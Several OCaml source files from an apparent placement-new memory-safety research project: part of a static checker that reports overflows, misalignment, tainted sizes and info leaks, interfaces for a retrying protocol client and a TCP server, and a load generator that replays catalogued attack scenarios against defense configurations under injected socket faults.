    | Ptr_v r -> (
      match member_type ctx r f with
      | Some ty ->
        region ~kind:(member_kind r) ~size:(Known (sizeof ctx ty))
          ~align:(Layout.alignof ctx.lenv ty) ?class_:(cname_of ty)
          (Fmt.str "%s.%s" r.r_name f)
      | None -> unknown_region)
    | _ -> unknown_region)
  | Ast.Deref p -> (
    match aeval ctx env p with Ptr_v r -> r | _ -> unknown_region)
  | Ast.Index (b, _) -> (
    (* &a[i]: remaining size and alignment unknown without i *)
    match aeval ctx env b with
    | Ptr_v r -> { r with r_size = Unknown; r_align = None }
    | _ -> unknown_region)
  | _ -> unknown_region

(* The arena behind a placement target expression. *)
and place_region ctx env place =
  match place with
  | Ast.Addr lv -> region_of_lvalue ctx env lv
  | e -> ( match aeval ctx env e with Ptr_v r -> r | _ -> unknown_region)

and check_placement ctx env ~placed ~align ~dest ~site ~what =
  let place_e, size_e = site in
  let guarded =
    List.exists (fun (p, f) -> p = place_e && f = size_e) ctx.guards
  in
  let member_dest =
    (* a member subobject (of a local/global, or of a remote object whose
       class gave the member a known size): the runtime guard sees the
       enclosing allocation, not the member *)
    match (dest.r_kind, dest.r_size) with
    | Member_region _, _ -> true
    | Remote_region, Known _ -> true
    | _ -> false
  in
  if guarded && not member_dest then
    (* dominated by an __arena_size guard for exactly this placement: the
       runtime check makes it safe by construction. Member targets are
       exempt: the guard sees the enclosing allocation, not the member
       (libsafe's granularity), so the §3.4 internal overflow survives it
       and must stay reported. *)
    report ctx Finding.Unchecked_placement
      "placement of %s into %a is guarded by __arena_size" what pp_region dest
  else begin
  report ctx Finding.Unchecked_placement
    "placement of %s (%a bytes) into arena %a" what pp_size placed pp_region
    dest;
  (* §2.5(4): the target address may not satisfy the object's alignment *)
  (match dest.r_align with
  | Some guaranteed when align > guaranteed ->
    report ctx Finding.Misalignment
      "%s requires %d-byte alignment but arena %s only guarantees %d" what
      align dest.r_name guaranteed
  | Some _ | None -> ());
  match fits ~placed ~arena:dest.r_size with
  | Overflows ->
    clobber env;
    report ctx Finding.Overflow_certain
      "placing %s (%a bytes) into %a overflows by a provable margin" what
      pp_size placed pp_region dest
  | Attacker_controlled ->
    clobber env;
    report ctx Finding.Tainted_size
      "attacker input reaches the size of %s placed into %a" what pp_size
      placed
  | May_overflow ->
    clobber env;
    report ctx Finding.Overflow_possible
      "placement of %s (%a bytes) into %a may not fit" what pp_size placed
      pp_region dest
  | Fits -> (
    match (placed, dest.r_size) with
    | Known p, Known a
      when p < a
           && dest.r_kind <> Local_region dest.r_name
           && not (List.mem dest.r_name ctx.sanitized) ->
      report ctx Finding.Info_leak
        "%s (%d bytes) placed over %d-byte arena %s without sanitization: %d \
         stale bytes remain readable"
        what p a dest.r_name (a - p)
    | _ -> ())
  | No_idea ->
    report ctx Finding.Overflow_possible
      "placement of %s into arena of unknown size %a cannot be bounds-checked"
      what pp_region dest
  end

and region_tainted ctx r =
  r.r_kind = Remote_region || List.mem r.r_name ctx.content_tainted

and taint_region ctx env e =
  match place_region ctx env e with
  | r when r.r_kind <> Unknown_region ->
    if not (List.mem r.r_name ctx.content_tainted) then
      ctx.content_tainted <- r.r_name :: ctx.content_tainted
  | _ -> ()

and join_size a b =
  match (a, b) with
  | x, y when x = y -> x
  | Tainted, _ | _, Tainted -> Tainted
  | _ -> Unknown

and join_aval a b =
  match (a, b) with
  | x, y when x = y -> x
  | Int_v x, Int_v y -> Int_v (join_size x y)
  | Ptr_v x, Ptr_v y when x.r_name = y.r_name -> Ptr_v x
  | Ptr_v _, Ptr_v _ -> Ptr_v unknown_region
  | _ -> Other_v

and record_call ctx env name args =
  match ctx.collect with
  | None -> ()
  | Some tbl -> (
    match Ast.find_func ctx.prog name with
    | Some fn when List.length fn.Ast.fn_params = List.length args ->
      let argv = List.map (aeval ctx env) args in
      let joined =
        match Hashtbl.find_opt tbl name with
        | None -> argv
        | Some prev -> List.map2 join_aval prev argv
      in
      Hashtbl.replace tbl name joined
    | _ -> ())

(* The length argument of a bulk write, §3.2 by another route: a tainted
   length lets the attacker steer how far the write runs, and a known
   length larger than the destination arena is a provable overrun. The
   E17 differential campaign surfaced the gap — [memset(p, c, cin)]
   genomes corrupted memory with no placement site involved, so no rule
   ever looked at the length and [Tainted_size] recall was 0.000 on
   those shapes. *)
and check_copy_length ctx env ~callee ~dst ~len =
  let dest = place_region ctx env dst in
  match fits ~placed:(as_size (aeval ctx env len)) ~arena:dest.r_size with
  | Attacker_controlled ->
    clobber env;
    report ctx Finding.Tainted_size
      "attacker input reaches the length %s writes into %a" callee pp_region
      dest
  | Overflows ->
    clobber env;
    report ctx Finding.Copy_overflow
      "%s length exceeds the %a destination: the write runs past the object"
      callee pp_region dest
  | Fits | May_overflow | No_idea -> ()

and check_call ctx env name args =
  record_call ctx env name args;
  match (name, args) with
  | "memset", dst :: _byte :: len :: _ ->
    check_copy_length ctx env ~callee:"memset" ~dst ~len;
    ctx.sanitized <- (place_region ctx env dst).r_name :: ctx.sanitized
  | "memset", target :: _ -> (
    match place_region ctx env target with
    | r -> ctx.sanitized <- r.r_name :: ctx.sanitized)
  | "recv", target :: _ ->
    (* the datagram buffer now holds attacker bytes *)
    taint_region ctx env target
  | (("strncpy" | "memcpy") as callee), dst :: src :: len :: _ ->
    check_copy_length ctx env ~callee ~dst ~len;
    (* copying from attacker bytes taints the destination's contents *)
    (match place_region ctx env src with
    | r when region_tainted ctx r -> taint_region ctx env dst
    | _ -> ())
  | ("strcpy" | "strncpy" | "memcpy"), dst :: src :: _ -> (
    match place_region ctx env src with
    | r when region_tainted ctx r -> taint_region ctx env dst
    | _ -> ())
  | _ -> ()

(* ------------------------------------------------------------------ *)
(* Statements                                                          *)

(* Constant-foldable condition (sizeof comparisons and other
   statically-known arithmetic): lets the checker prune the branch a
   correct-coding guard makes unreachable. *)
let const_cond ctx env (c : Ast.expr) =
  match c with
  | Ast.Bin (op, a, b) -> (
    match (aeval ctx env a, aeval ctx env b) with
    | Int_v (Known x), Int_v (Known y) -> (
      match op with
      | Ast.Lt -> Some (x < y)
      | Ast.Le -> Some (x <= y)
      | Ast.Gt -> Some (x > y)
      | Ast.Ge -> Some (x >= y)
      | Ast.Eq -> Some (x = y)
      | Ast.Ne -> Some (x <> y)
      | _ -> None)
    | _ -> None)
  | _ -> None

let ends_in_return body =
  match List.rev body with
  | (Ast.Return _) :: _ -> true
  | [] -> false
  | _ -> false

(* Recognize the early-exit bound check [if (x > e) return;]: afterwards
   x <= e holds. *)
let refine_after_guard ctx env (c : Ast.expr) then_ else_ =
  match (c, else_) with
  | Ast.Bin (Ast.Gt, Ast.Var x, e), [] when ends_in_return then_ -> (
    match aeval ctx env e with
    | Int_v (Known k) | Int_v (Bounded k) -> set env x (Int_v (Bounded k))
    | _ -> ())
  | Ast.Bin (Ast.Ge, Ast.Var x, e), [] when ends_in_return then_ -> (
    match aeval ctx env e with
    | Int_v (Known k) | Int_v (Bounded k) -> set env x (Int_v (Bounded (k - 1)))
    | _ -> ())
  | _ -> ()

(* Loop shape [i < bound] / [++i < bound] and its iteration count. *)
let loop_bound ctx env (c : Ast.expr) =
  match c with
  | Ast.Bin (Ast.Lt, (Ast.Var i | Ast.Un (Ast.Preinc, Ast.Var i)), b) ->
    Some (i, as_size (aeval ctx env b))
  | Ast.Bin (Ast.Le, (Ast.Var i | Ast.Un (Ast.Preinc, Ast.Var i)), b) ->
    Some (i, add (as_size (aeval ctx env b)) (Known 1))
  | _ -> None

(* Element capacity of an indexed write target. *)
let elem_capacity ctx env (base : Ast.expr) =
  match base with
  | Ast.Arrow (p, f) | Ast.Field (p, f) -> (
    let r =
      match base with
      | Ast.Arrow _ -> aeval ctx env p
      | _ -> Ptr_v (region_of_lvalue ctx env p)
    in
    match r with
    | Ptr_v r -> (
      match member_type ctx r f with
      | Some (Ctype.Array (_, k)) -> Some (k, Fmt.str "%s.%s" r.r_name f)
      | _ -> None)
    | _ -> None)
  | Ast.Var x -> (
    match Hashtbl.find_opt ctx.decls x with
    | Some (Ctype.Array (_, k)) -> Some (k, x)
    | _ -> (
      match global_def ctx x with
      | Some { Ast.g_type = Ctype.Array (_, k); _ } -> Some (k, x)
      | _ -> None))
  | _ -> None

(* §3.2 Listing 6: a loop bounded by remote data copying into a fixed-size
   member. *)
let check_copy_loop ctx env cond body =
  match loop_bound ctx env cond with
  | None -> ()
  | Some (ivar, count) ->
    List.iter
      (function
        | Ast.Assign (Ast.Index (base, Ast.Var i), _) when i = ivar -> (
          match elem_capacity ctx env base with
          | Some (cap, name) -> (
            match fits ~placed:count ~arena:(Known cap) with
            | Overflows | Attacker_controlled ->
              clobber env;
              report ctx Finding.Copy_overflow
                "loop bound (%a) exceeds capacity %d of %s: indexed copy runs \
                 past the object"
                pp_size count cap name
            | May_overflow ->
              clobber env;
              report ctx Finding.Copy_overflow
                "loop bound (%a) not provably within capacity %d of %s" pp_size
                count cap name
            | Fits | No_idea -> ())
          | None -> ())
        | _ -> ())
      body

let rec wstmt ctx env (s : Ast.stmt) =
  match s with
  | Ast.Decl (x, ty, init) -> (
    Hashtbl.replace ctx.decls x ty;
    match init with
    | Some e -> set env x (aeval ctx env e)
    | None -> Hashtbl.remove env.vars x)
  | Ast.Decl_obj (x, cname, args) ->
    Hashtbl.replace ctx.decls x (Ctype.Class cname);
    List.iter (fun a -> ignore (aeval ctx env a)) args
  | Ast.Assign (Ast.Var x, e) -> set env x (aeval ctx env e)
  | Ast.Assign (lhs, e) ->
    ignore (region_of_lvalue ctx env lhs);
    ignore (aeval ctx env e)
  | Ast.Expr e -> ignore (aeval ctx env e)
  | Ast.If (c, t, f) -> (
    match const_cond ctx env c with
    | Some true -> wblock ctx env t
    | Some false -> wblock ctx env f
    | None -> (
      (match c with
      | Ast.Bin (Ast.Ge, Ast.Call ("__arena_size", [ p ]), fp) ->
        (* the hardener's bounds guard: inside the then-branch, the
           placement matching (p, fp) is safe by construction *)
        let saved = ctx.guards in
        ctx.guards <- (p, fp) :: ctx.guards;
        wblock ctx env t;
        ctx.guards <- saved
      | Ast.Bin ((Ast.Le | Ast.Lt) as op, Ast.Var x, e) -> (
        (* [if (x <= bound) { ... }]: inside the then-branch x is
           bounded, however tainted it was outside — the guard is
           exactly the correct-coding repair, so the copy-length rules
           must not fire behind it *)
        match aeval ctx env e with
        | Int_v (Known k) | Int_v (Bounded k) ->
          let saved = Hashtbl.find_opt env.vars x in
          set env x (Int_v (Bounded (match op with Ast.Lt -> k - 1 | _ -> k)));
          wblock ctx env t;
          (match saved with
          | Some v -> Hashtbl.replace env.vars x v
          | None -> Hashtbl.remove env.vars x)
        | _ -> wblock ctx env t)
      | _ -> wblock ctx env t);
      wblock ctx env f;
      refine_after_guard ctx env c t f))
  | Ast.While (c, body) ->
    check_copy_loop ctx env c body;
    ignore (aeval ctx env c);
    wblock ctx env body
  | Ast.For (init, c, step, body) ->
    Option.iter (wstmt ctx env) init;
    check_copy_loop ctx env c body;
    ignore (aeval ctx env c);
    wblock ctx env body;
    Option.iter (wstmt ctx env) step
  | Ast.Return e -> Option.iter (fun e -> ignore (aeval ctx env e)) e
  | Ast.Delete e -> ignore (aeval ctx env e)
  | Ast.Delete_placed (e, ty) ->
    ignore (aeval ctx env e);
    report ctx Finding.Memory_leak
      "delete of a placed %a releases only sizeof(%a) bytes; the arena tail \
       is stranded (define a placement delete)"
      Ctype.pp ty Ctype.pp ty
  | Ast.Cout es -> List.iter (fun e -> ignore (aeval ctx env e)) es

and wblock ctx env body = List.iter (wstmt ctx env) body

(* ------------------------------------------------------------------ *)
(* Entry point                                                         *)

let analyze_function ?params ctx (fn : Ast.func) =
  ctx.cur_func <- fn.Ast.fn_name;
  ctx.sanitized <- [];
  ctx.guards <- [];
  Hashtbl.reset ctx.decls;
  let env = create_env () in
  (match params with
  | Some argv ->
    (* interprocedural mode: seed parameters with the join of the abstract
       arguments observed at the call sites *)
    List.iter2
      (fun (p, ty) v ->
        Hashtbl.replace ctx.decls p ty;
        match (v, ty) with
        | Ptr_v r, Ctype.Ptr (Ctype.Class c) when r.r_class = None ->
          set env p (Ptr_v { r with r_class = Some c })
        | _ -> set env p v)
      fn.Ast.fn_params argv
  | None ->
    (* pointer parameters carry data from outside the function: the paper's
       §3.2 threat model treats received objects as attacker-influenced *)
    List.iter
      (fun (p, ty) ->
        Hashtbl.replace ctx.decls p ty;
        match ty with
        | Ctype.Ptr (Ctype.Class c) ->
          set env p (Ptr_v { (remote_region p) with r_class = Some c })
        | Ctype.Ptr _ -> set env p (Ptr_v (remote_region p))
        | _ -> ())
      fn.Ast.fn_params);
  wblock ctx env fn.Ast.fn_body

let make_ctx ?collect prog =
  {
    lenv = Pna_minicpp.Interp.build_env prog;
    prog;
    globals_written = collect_written prog;
    decls = Hashtbl.create 16;
    cur_func = "";
    sanitized = [];
    content_tainted = [];
    guards = [];
    report_enabled = true;
    collect;
    findings = [];
  }

(* Interprocedural driver: iterate argument propagation to a fixpoint (the
   join is finite: avals only coarsen), then re-analyze each function with
   its final parameter environment, reporting findings. Functions that are
   never called keep the conservative remote-parameter treatment. *)
let analyze_interproc (prog : Ast.program) : Finding.t list =
  let tbl : (string, aval list) Hashtbl.t = Hashtbl.create 8 in
  let snapshot () = Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl [] in
  let ctx = make_ctx ~collect:tbl prog in
  ctx.report_enabled <- false;
  let rec iterate n =
    let before = snapshot () in
    List.iter
      (fun fn ->
        let params = Hashtbl.find_opt tbl fn.Ast.fn_name in
        analyze_function ?params ctx fn)
      prog.Ast.p_funcs;
    if snapshot () <> before && n > 0 then iterate (n - 1)
  in
  iterate 8;
  let final = make_ctx prog in
  (* content taint discovered during propagation is program-wide state *)
  final.content_tainted <- ctx.content_tainted;
  List.iter
    (fun fn ->
      let params = Hashtbl.find_opt tbl fn.Ast.fn_name in
      analyze_function ?params final fn)
    prog.Ast.p_funcs;
  List.rev final.findings

let analyze ?(interproc = false) (prog : Ast.program) : Finding.t list =
  if interproc then analyze_interproc prog
  else begin
    let ctx = make_ctx prog in
    List.iter (analyze_function ctx) prog.Ast.p_funcs;
    List.rev ctx.findings
  end

let actionable ?interproc prog =
  List.filter Finding.actionable (analyze ?interproc prog)
