(** Protocol client: blocking sockets with receive timeouts, classified
    transport failures, and a retrying one-shot {!call} with seeded
    jittered exponential backoff.

    With [?chaos], a {!Pna_chaos.Chaos} engine scripts socket-level
    faults onto the send path (partial writes, stalls, corrupt bytes,
    hard resets) — the fault-injection vehicle for the chaos soak. *)

type failure =
  | Retryable of string
      (** may have been lost in flight; the service is memoized and
          deterministic, so re-sending is safe *)
  | Terminal of string  (** retrying cannot help *)

val failure_label : failure -> string

type response =
  | Served of Frame.rep
  | Shed of int  (** retry-after hint, ms *)
  | Rejected of string  (** server-side [Reply_error] *)

type t

val connect :
  ?timeout_s:float ->
  ?chaos:Pna_chaos.Chaos.t ->
  host:string ->
  port:int ->
  unit ->
  (t, failure) result

val request : t -> Frame.req -> (response, failure) result
(** One request/reply exchange; a receive timeout, peer close or
    injected reset comes back [Retryable], a protocol breakdown
    [Terminal]. Never raises, never blocks past the timeout.

    When the caller runs inside an ambient trace
    ({!Pna_telemetry.Trace.with_ctx}) and [rq_trace] is unset, the
    request is stamped with the wire context so the server's spans link
    under the caller's — distributed tracing without the call site
    knowing about it. *)

val ping : t -> int -> (unit, failure) result

val stats : t -> int -> (string, failure) result
(** Poll the server's metrics snapshot over the wire ([Stats_req]/
    [Stats_rep]): the Prometheus text exposition of its registry plus
    the service pool's, correlated by the nonce. *)

val send_msg : t -> Frame.msg -> (unit, failure) result
val recv_msg : t -> (Frame.msg, failure) result
(** Raw framed send/receive for pipelined callers (the load generator
    keeps a window of outstanding requests and matches correlation ids
    itself). *)

val close : t -> unit
val abort : t -> unit
(** [abort] resets (SO_LINGER 0 — the peer sees RST); [close] is a
    graceful FIN. Both are idempotent. *)

val call :
  ?attempts:int ->
  ?base_ms:int ->
  ?jitter_pct:int ->
  ?seed:int ->
  ?timeout_s:float ->
  ?chaos:Pna_chaos.Chaos.t ->
  host:string ->
  port:int ->
  Frame.req ->
  (response, failure) result
(** Connect-request-close with retry: retryable failures and shed
    replies back off ([base_ms] * 2^attempt plus up to [jitter_pct]%
    jitter from a generator seeded by [seed]) and retry up to [attempts]
    total tries; terminal failures return immediately. Retries and
    give-ups are counted in the default registry
    ([pna_net_client_retries_total] / [pna_net_client_giveups_total]). *)
