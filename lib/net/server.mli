(** The crash-safe TCP front end for the {!Pna_service.Service} pool.

    One or more select loops ([config.loops]), each in its own domain
    and sharing the listener (accept-fanout: whichever loop wins the
    accept owns the connection for its whole life), speak the {!Frame}
    protocol: requests are admitted under an in-flight cap (excess is
    answered
    with [Reply_shed] + retry-after, never queued without bound),
    malformed frames are answered with a classified [Reply_error] and a
    connection close (never a crash or a hang — an idle timeout reaps
    half-sent frames), and {!stop} drains gracefully: in-flight jobs
    finish and replies flush before sockets close.

    With [memo_log] set, the service's memo cache is persisted through
    {!Memolog}: recovered entries are preloaded at {!start} and fresh
    ones appended as workers compute them, so a [kill -9] loses at most
    the torn tail of the log. *)

type config = {
  host : string;
  port : int;  (** 0 picks an ephemeral port; read it back with {!port} *)
  loops : int;
      (** select-loop domains sharing the listener (default 1); each
          connection is owned by exactly one loop for its whole life,
          so per-connection state never crosses domains *)
  max_inflight : int;  (** admitted-but-unfinished request cap, global *)
  max_conns : int;  (** open-connection cap, global across loops *)
  idle_timeout_s : float;
  drain_timeout_s : float;  (** graceful-stop budget *)
  max_steps_cap : int;  (** ceiling clamped onto every request deadline *)
  retry_after_ms : int;  (** hint carried on shed replies *)
  memo_log : string option;  (** persist the memo cache here *)
}

val default_config : config

type t

val start : ?config:config -> Pna_service.Service.t -> t
(** Bind, recover the memo log (if configured), spawn the loop domains.
    The service outlives the server: {!stop} does not shut the pool
    down. *)

val port : t -> int
(** The bound port — the ephemeral one when [config.port] was 0. *)

val registry : t -> Pna_telemetry.Metrics.registry
(** Counters [pna_net_accepts_total], [pna_net_requests_total],
    [pna_net_served_total], [pna_net_shed_total],
    [pna_net_internal_errors_total],
    [pna_net_protocol_errors_total{class}],
    [pna_net_closes_total{reason}],
    [pna_net_replies_total{kind}] (every outbound frame by kind);
    histogram [pna_net_request_us];
    gauges [pna_net_open_conns], [pna_net_inflight],
    [pna_net_draining] (1 once a graceful stop began),
    [pna_net_queued_replies] (frames waiting in output queues), and —
    when a memo log is configured — the recovery facts
    [pna_net_memo_recovered_entries], [pna_net_memo_torn_bytes],
    [pna_net_memo_dup_entries]. *)

val recovered : t -> int
(** Memo entries preloaded from the log at startup. *)

val torn_bytes : t -> int
(** Bytes truncated off the memo log's torn tail at startup. *)

val dup_entries : t -> int
(** Log entries dropped as duplicates at preload — what a compaction
    pass would save. *)

val stop : t -> unit
(** Graceful shutdown: stop accepting, drain in-flight work and output
    up to [drain_timeout_s], join the loop domains, close the memo log.
    Idempotent in effect; safe to call once the loops have already
    exited. *)
