(** The load generator: pipelined request streams over parallel
    connections, with full per-request accounting.

    Every request ends in exactly one bucket — served, shed (after
    bounded re-tries), rejected (classified server error) or hung
    (watchdog expiry, which the E16 gate requires to be zero) — so
    [lg_served + lg_shed + lg_rejected + lg_hung = n] by construction.
    Latency percentiles are computed over served requests only.

    Under [~chaos], each connection runs a {!Pna_chaos.Chaos} engine
    with socket faults ([Plan.generate ~sock:true]) on its send path and
    rotates to a fresh seeded plan as engines exhaust, keeping fault
    pressure up for the whole soak. Transport failures re-send the
    outstanding window on a fresh connection — safe, because the service
    is memoized and deterministic. *)

module Chaos = Pna_chaos.Chaos
module Plan = Pna_chaos.Plan
module Catalog = Pna_attacks.Catalog
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Clock = Pna_telemetry.Clock
module Trace = Pna_telemetry.Trace
module Switch = Pna_telemetry.Switch

type spec = {
  s_attack : string;
  s_config : string;
  s_chaos_seed : int option;
  s_max_steps : int option;
}

let spec_key s =
  Fmt.str "%s|%s|%a" s.s_attack s.s_config
    Fmt.(option ~none:(any "-") int)
    s.s_chaos_seed

(* A deterministic pool of distinct request specs over the catalogue —
   the verdict-equivalence half of E16 re-runs exactly these in process
   and compares signatures. *)
(* the same per-request step budget the E12 stream uses: big enough that
   every scenario reaches its natural verdict, small enough that a cold
   compute never masquerades as a hung connection *)
let default_max_steps = 60_000

let specs ?(distinct = 48) ?(chaos_every = 6) ?(max_steps = default_max_steps)
    ?targets ~seed () =
  let module R = Pna_rand.Rand in
  (* the shared RNG's [int] is rejection-sampled, so the pick over the
     target pool is exactly uniform (and the stream a pure function of
     [seed]) even when the pool size is not a power of two — a corpus of
     e.g. 1000 generated scenarios gets no modulo skew towards its low
     indices *)
  let rng = R.create (seed lxor 0x10ad5eed) in
  let targets =
    match targets with
    | Some (_ :: _ as ids) -> Array.of_list ids
    | Some [] | None ->
      Array.of_list (List.map (fun a -> a.Catalog.id) All.attacks)
  in
  let configs = Array.of_list Config.all in
  Array.init distinct (fun i ->
      {
        s_attack = R.pick rng targets;
        s_config = (R.pick rng configs).Config.name;
        s_chaos_seed =
          (if chaos_every > 0 && i mod chaos_every = chaos_every - 1 then
             Some (1 + R.int rng 1000)
           else None);
        s_max_steps = Some max_steps;
      })

let req_of_spec ?trace ~corr s =
  {
    Frame.rq_corr = corr land 0xffffffff;
    rq_attack = s.s_attack;
    rq_config = s.s_config;
    rq_chaos_seed = s.s_chaos_seed;
    rq_max_steps = s.s_max_steps;
    rq_sanitize = false;
    (* the generated load runs on the process-default engine, so a
       PNA_ENGINE=bytecode soak pushes the whole stream through the VM *)
    rq_engine = Pna_attacks.Driver.env_engine;
    rq_trace = trace;
  }

let signature (r : Frame.rep) =
  Fmt.str "%s|%s|%a|%s|%b|%s|%d|%d" r.Frame.rp_id r.Frame.rp_config
    Fmt.(option ~none:(any "-") int)
    r.Frame.rp_chaos_seed r.Frame.rp_status r.Frame.rp_success
    r.Frame.rp_detail r.Frame.rp_attempts r.Frame.rp_violations

type result = {
  lg_n : int;
  lg_conns : int;
  lg_served : int;
  lg_shed_final : int;  (** still shed after [retry_shed] re-tries *)
  lg_shed_retried : int;  (** shed replies that were retried *)
  lg_rejected : (string * int) list;  (** classified server errors *)
  lg_hung : int;  (** watchdog expiries — the gate requires 0 *)
  lg_reconnects : int;
  lg_p50_us : float;
  lg_p99_us : float;
  lg_p999_us : float;
  lg_mean_us : float;
  lg_seconds : float;
  lg_samples : (string * string) list;
      (** distinct spec key -> reply signature (first seen) *)
  lg_sig_conflicts : int;
      (** same spec answered with different signatures — the gate
          requires 0 *)
  lg_traced : int;
      (** sampled requests that carried a wire trace context and came
          back served — each contributes one client root span *)
}

let pp ppf r =
  Fmt.pf ppf
    "@[<v>%d requests over %d conns in %.2fs (%.0f/s)@,\
     served %d  shed %d (retried %d)  rejected %d  hung %d  reconnects %d@,\
     latency us: p50 %.0f  p99 %.0f  p99.9 %.0f  mean %.0f@,\
     %d distinct specs sampled, %d signature conflicts%a@]"
    r.lg_n r.lg_conns r.lg_seconds
    (float_of_int r.lg_n /. Float.max 1e-9 r.lg_seconds)
    r.lg_served r.lg_shed_final r.lg_shed_retried
    (List.fold_left (fun a (_, n) -> a + n) 0 r.lg_rejected)
    r.lg_hung r.lg_reconnects r.lg_p50_us r.lg_p99_us r.lg_p999_us
    r.lg_mean_us
    (List.length r.lg_samples)
    r.lg_sig_conflicts
    (fun ppf n -> if n > 0 then Fmt.pf ppf "@,%d requests wire-traced" n)
    r.lg_traced

(* -- per-domain worker ---------------------------------------------- *)

type outstanding = {
  o_idx : int;  (** global request index *)
  o_spec : spec;
  mutable o_t0 : int64;  (** latency clock, restarted on re-send *)
  mutable o_sheds : int;
  mutable o_strikes : int;  (** transport failures seen by this request *)
  o_trace : (int * int) option;
      (** sampled: (trace id, client root span id) sent on the wire so
          the server parents its request span under ours *)
}

type acc = {
  mutable a_served : int;
  mutable a_shed_final : int;
  mutable a_shed_retried : int;
  a_rejected : (string, int) Hashtbl.t;
  mutable a_hung : int;
  mutable a_reconnects : int;
  mutable a_lat : float array;
  mutable a_lat_n : int;
  a_samples : (string, string) Hashtbl.t;
  mutable a_conflicts : int;
  mutable a_traced : int;
}

let mk_acc () =
  {
    a_served = 0;
    a_shed_final = 0;
    a_shed_retried = 0;
    a_rejected = Hashtbl.create 8;
    a_hung = 0;
    a_reconnects = 0;
    a_lat = Array.make 1024 0.;
    a_lat_n = 0;
    a_samples = Hashtbl.create 64;
    a_conflicts = 0;
    a_traced = 0;
  }

let push_lat acc v =
  if acc.a_lat_n >= Array.length acc.a_lat then begin
    let bigger = Array.make (2 * Array.length acc.a_lat) 0. in
    Array.blit acc.a_lat 0 bigger 0 acc.a_lat_n;
    acc.a_lat <- bigger
  end;
  acc.a_lat.(acc.a_lat_n) <- v;
  acc.a_lat_n <- acc.a_lat_n + 1

let classify_rejection acc msg =
  (* fold server messages onto a small stable label set *)
  let label =
    if String.length msg >= 7 && String.sub msg 0 7 = "unknown" then
      "unknown-target"
    else if String.length msg >= 9 && String.sub msg 0 9 = "internal:" then
      "internal"
    else "protocol"
  in
  Hashtbl.replace acc.a_rejected label
    (1 + Option.value ~default:0 (Hashtbl.find_opt acc.a_rejected label))

let record_sample acc key sig_ =
  match Hashtbl.find_opt acc.a_samples key with
  | None -> Hashtbl.add acc.a_samples key sig_
  | Some prior -> if prior <> sig_ then acc.a_conflicts <- acc.a_conflicts + 1

(* strikes a request survives before the watchdog calls it hung: each
   strike already implied a receive timeout or reconnect *)
let max_strikes = 5

(* Request lifecycle inside a worker: indices wait in [todo] (not yet
   materialized), outstandings needing a (re)send wait in [resend], sent
   ones sit in [live] keyed by correlation id until a reply resolves
   them. Every transport failure kills the connection ([conn := None])
   so the next loop turn reconnects — a dead socket can never spin with
   an empty window. *)
let worker ~host ~port ~timeout_s ~window ~retry_shed ~chaos ~seed
    ~sample_every ~(specs : spec array) ~indices () =
  let acc = mk_acc () in
  let eng_seed = ref (1000 * (seed + 1)) in
  let fresh_chaos () =
    if not chaos then None
    else begin
      incr eng_seed;
      Some (Chaos.create (Plan.generate ~sock:true ~seed:!eng_seed ()))
    end
  in
  let conn = ref None in
  let rec connect_retry k =
    match Client.connect ?chaos:(fresh_chaos ()) ~timeout_s ~host ~port () with
    | Ok c -> Some c
    | Error _ when k < 50 ->
      Unix.sleepf 0.02;
      connect_retry (k + 1)
    | Error _ -> None
  in
  let todo = Queue.create () in
  List.iter (fun i -> Queue.add i todo) indices;
  (* chaos engines are one-shot plans with fault targets in the first
     couple dozen sends; rotating to a fresh connection (and plan) every
     64 resolved requests keeps fault pressure up for the whole soak *)
  let rotate_every = if chaos then 64 else max_int in
  let resolved = ref 0 in
  let resend : outstanding Queue.t = Queue.create () in
  let live : (int, outstanding) Hashtbl.t = Hashtbl.create 64 in
  let corr = ref 0 in
  let resolve_hung _o = acc.a_hung <- acc.a_hung + 1 in
  let drop_conn () =
    (match !conn with Some c -> Client.abort c | None -> ());
    conn := None
  in
  (* strike an outstanding request; repeat offenders resolve as hung
     instead of looping forever *)
  let strike o =
    o.o_strikes <- o.o_strikes + 1;
    if o.o_strikes >= max_strikes then resolve_hung o else Queue.add o resend
  in
  let next_out () =
    if Queue.length resend > 0 then Some (Queue.pop resend)
    else if Queue.length todo > 0 then begin
      let i = Queue.pop todo in
      (* every [sample_every]-th request gets its own wire trace: a
         fresh trace id plus the client root span the server will
         parent its request span under *)
      let trace =
        if sample_every > 0 && i mod sample_every = 0 && Switch.enabled ()
        then Some (Trace.next_span_id (), Trace.next_span_id ())
        else None
      in
      Some
        {
          o_idx = i;
          o_spec = specs.(i mod Array.length specs);
          o_t0 = Clock.now_ns ();
          o_sheds = 0;
          o_strikes = 0;
          o_trace = trace;
        }
    end
    else None
  in
  let send_one c o =
    incr corr;
    o.o_t0 <- Clock.now_ns ();
    match
      Client.send_msg c
        (Frame.Request (req_of_spec ?trace:o.o_trace ~corr:!corr o.o_spec))
    with
    | Ok () ->
      Hashtbl.replace live !corr o;
      true
    | Error _ ->
      strike o;
      drop_conn ();
      false
  in
  let connected_once = ref false in
  let reconnect () =
    if !connected_once then acc.a_reconnects <- acc.a_reconnects + 1;
    drop_conn ();
    (* everything in flight on the dead socket goes back through the
       resend queue, one strike heavier *)
    let outstanding = Hashtbl.fold (fun _ o l -> o :: l) live [] in
    Hashtbl.reset live;
    List.iter strike outstanding;
    match connect_retry 0 with
    | None ->
      (* connection refused repeatedly: everything left is hung *)
      Queue.iter resolve_hung resend;
      Queue.clear resend;
      Queue.iter (fun _ -> acc.a_hung <- acc.a_hung + 1) todo;
      Queue.clear todo;
      false
    | Some c ->
      connected_once := true;
      conn := Some c;
      true
  in
  let handle_reply msg =
    let pop corr_id =
      match Hashtbl.find_opt live corr_id with
      | None -> None
      | Some o ->
        Hashtbl.remove live corr_id;
        Some o
    in
    match msg with
    | Frame.Reply_ok rep -> (
      match pop rep.Frame.rp_corr with
      | None -> ()
      | Some o ->
        incr resolved;
        acc.a_served <- acc.a_served + 1;
        let now = Clock.now_ns () in
        push_lat acc (Clock.elapsed_us ~a:o.o_t0 ~b:now);
        (match o.o_trace with
        | Some (tid, root) ->
          (* the client root span, emitted retroactively over the
             request's last send-to-reply extent *)
          acc.a_traced <- acc.a_traced + 1;
          Trace.emit ~cat:"net" ~name:"client-request"
            ~ts_us:(Trace.us_of_ns o.o_t0)
            ~dur_us:(Clock.elapsed_us ~a:o.o_t0 ~b:now)
            ~trace:(tid, root, 0)
            ~args:[ ("target", Trace.Str o.o_spec.s_attack) ]
            ()
        | None -> ());
        record_sample acc (spec_key o.o_spec) (signature rep))
    | Frame.Reply_shed { sh_corr; sh_retry_after_ms } -> (
      match pop sh_corr with
